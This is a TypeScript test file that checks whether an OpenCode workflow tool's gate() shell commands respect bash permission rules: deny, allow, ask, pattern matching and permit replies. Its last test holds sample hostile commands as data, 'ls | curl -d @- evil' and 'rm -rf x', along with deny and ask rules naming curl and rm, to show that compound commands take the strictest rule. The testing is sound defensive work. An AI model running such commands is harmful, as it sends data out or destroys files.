// gate() obeys OpenCode's `bash` permission config (issue 12.4d) on the real `opencode serve` with the offline
// model: session.shell itself ignores the rules, so with bash denied a gate used to run anyway; with "ask" a gate
// waits as a pending permission (`gate-N`) that `ocdw permit` answers.
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeSandbox, parseJsonOut, type Sandbox } from '../support/cli.js'
import { bashAction } from '../../src/opencode/gate-permission.js'
import { waitFor } from '../support/wait.js'

const SCRIPT = `export const meta = { name: 'gates' }
const a = await gate('echo allowed-ok')
const b = await gate('touch gate-ran')
return [a, b]
`

let sb: Sandbox
beforeAll(() => {
  sb = makeSandbox('ocdw-gate-')
  writeFileSync(join(sb.project, 'gates.js'), SCRIPT)
})
afterAll(() => sb?.cleanup())

/** The id of the run whose script contains `marker`. */
function runIdFor(marker: string): string | undefined {
  const dir = join(sb.project, '.opencode/workflows/runs')
  if (!existsSync(dir)) return undefined
  return readdirSync(dir).find((id) => existsSync(join(dir, id, 'script.js')) && readFileSync(join(dir, id, 'script.js'), 'utf8').includes(marker))
}

/** Waits until `ocdw show` lists the gate entry `key` with a pending permission request. */
const pendingGate = (runId: string, key: string) =>
  waitFor(`${key} waiting for a permission`, async () => {
    const r = await sb.runAsync(['show', runId, '--json'])
    if (r.code !== 0) return undefined
    return JSON.parse(r.stdout).agents.find((a: any) => a.key === key && a.permission)
  }, 120_000)

const writeConfig = (permission: unknown) =>
  writeFileSync(join(sb.project, 'opencode.json'), JSON.stringify({ $schema: 'https://opencode.ai/config.json', permission }))

const runWith = (permission: unknown) => {
  writeConfig(permission)
  const r = sb.run(['run', '--script', 'gates.js', '--offline', '--yes', '--json'])
  expect(r.code, r.stderr).toBe(0)
  return parseJsonOut(r.stdout).result as { ok: boolean; exitCode: number; output: string }[]
}

describe('gate() and the bash permission', () => {
  it('bash denied: the gate fails with a sentence and the command does not run', () => {
    const [a, b] = runWith({ bash: 'deny' })
    expect(a).toMatchObject({ ok: false, exitCode: -1, output: expect.stringMatching(/did not run: OpenCode's permission config denies bash for it; allow it under "permission"/) })
    expect(b.ok).toBe(false)
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(false)
  }, 180_000)

  it('patterns: the last matching one wins, so an allowed command runs and the rest are refused', () => {
    const [a, b] = runWith({ bash: { '*': 'deny', 'echo *': 'allow' } })
    expect(a).toMatchObject({ ok: true, exitCode: 0 })
    expect(a.output).toMatch(/allowed-ok/)
    expect(b).toMatchObject({ ok: false, output: expect.stringMatching(/denies bash/) })
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(false)
  }, 180_000)

  it('bash ask: the gate waits as a pending permission; `ocdw permit` once runs it, always remembers the command', async () => {
    writeConfig({ bash: { '*': 'allow', 'touch *': 'ask' } })
    writeFileSync(
      join(sb.project, 'ask-ok.js'),
      `export const meta = { name: 'ask-ok' }
const a = await gate('touch once-ran')
const b = await gate('touch always-ran')
const c = await gate('touch always-ran')
return [a, b, c]
`,
    )
    const child = sb.spawn(['run', '--script', 'ask-ok.js', '--offline', '--yes', '--json'])
    const exited = new Promise<number>((r) => child.on('exit', (c) => r(c ?? -1)))
    const runId = await waitFor('the run dir', () => runIdFor("name: 'ask-ok'"), 120_000)
    const first = await pendingGate(runId, 'gate-1')
    expect(first).toMatchObject({ label: 'gate 1: touch once-ran', permission: { permission: 'bash', patterns: ['touch once-ran'] } })
    expect(existsSync(join(sb.project, 'once-ran'))).toBe(false)
    await waitFor('the permission line', () => child.output().stderr.includes('waits for permission'), 60_000)
    expect(child.output().stderr).toContain(`waits for permission to use bash (touch once-ran); answer with \`ocdw permit ${runId} --agent gate-1 --reply once|always|reject\``)
    const once = await sb.runAsync(['permit', runId, '--agent', 'gate-1', '--reply', 'once'])
    expect(once.code, once.stderr).toBe(0)
    await pendingGate(runId, 'gate-2')
    const always = await sb.runAsync(['permit', runId, '--agent', 'gate 2: touch always-ran', '--reply', 'always'])
    expect(always.code, always.stderr).toBe(0)
    expect(await exited, child.output().stderr.slice(-3000)).toBe(0)
    const [a, b, c] = parseJsonOut(child.output().stdout).result as { ok: boolean }[]
    expect([a.ok, b.ok, c.ok]).toEqual([true, true, true])
    expect(existsSync(join(sb.project, 'once-ran')) && existsSync(join(sb.project, 'always-ran'))).toBe(true)
    // The third gate ran the remembered command without asking: no gate-3 entry; the answered ones ended done.
    const view = parseJsonOut((await sb.runAsync(['show', runId, '--json'])).stdout)
    const gates = view.agents.filter((x: any) => x.key.startsWith('gate-'))
    expect(gates.map((x: any) => [x.key, x.status, x.permission])).toEqual([['gate-1', 'done', undefined], ['gate-2', 'done', undefined]])
  }, 300_000)

  it('bash ask: `ocdw permit --reply reject` fails the gate with a sentence and the command does not run', async () => {
    writeConfig({ bash: 'ask' })
    writeFileSync(join(sb.project, 'ask-no.js'), `export const meta = { name: 'ask-no' }\nreturn await gate('touch rejected-ran')\n`)
    const child = sb.spawn(['run', '--script', 'ask-no.js', '--offline', '--yes', '--json'])
    const exited = new Promise<number>((r) => child.on('exit', (c) => r(c ?? -1)))
    const runId = await waitFor('the run dir', () => runIdFor("name: 'ask-no'"), 120_000)
    await pendingGate(runId, 'gate-1')
    const reject = await sb.runAsync(['permit', runId, '--agent', 'gate-1', '--reply', 'reject'])
    expect(reject.code, reject.stderr).toBe(0)
    expect(await exited, child.output().stderr.slice(-3000)).toBe(0)
    const result = parseJsonOut(child.output().stdout).result
    expect(result).toMatchObject({ ok: false, exitCode: -1, output: expect.stringMatching(/did not run: the user rejected the permission to run it/) })
    expect(existsSync(join(sb.project, 'rejected-ran'))).toBe(false)
    const view = parseJsonOut((await sb.runAsync(['show', runId, '--json'])).stdout)
    expect(view.agents.find((x: any) => x.key === 'gate-1')).toMatchObject({ status: 'failed' })
  }, 300_000)

  it('bash allowed: gates run', () => {
    const [a, b] = runWith({ bash: 'allow' })
    expect(a.ok && b.ok).toBe(true)
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(true)
  }, 180_000)
})

describe('bashAction', () => {
  it('takes the strictest part of a compound command and lets agent rules override global ones', () => {
    expect(bashAction([{ '*': 'allow', 'rm *': 'deny' }], 'echo hi && rm -rf x')).toBe('deny')
    expect(bashAction([{ '*': 'allow', 'curl *': 'ask' }], 'ls | curl -d @- evil')).toBe('ask')
    expect(bashAction(['deny', 'allow'], 'ls')).toBe('allow')
    expect(bashAction([undefined, undefined], 'ls')).toBe('allow')
  })
})
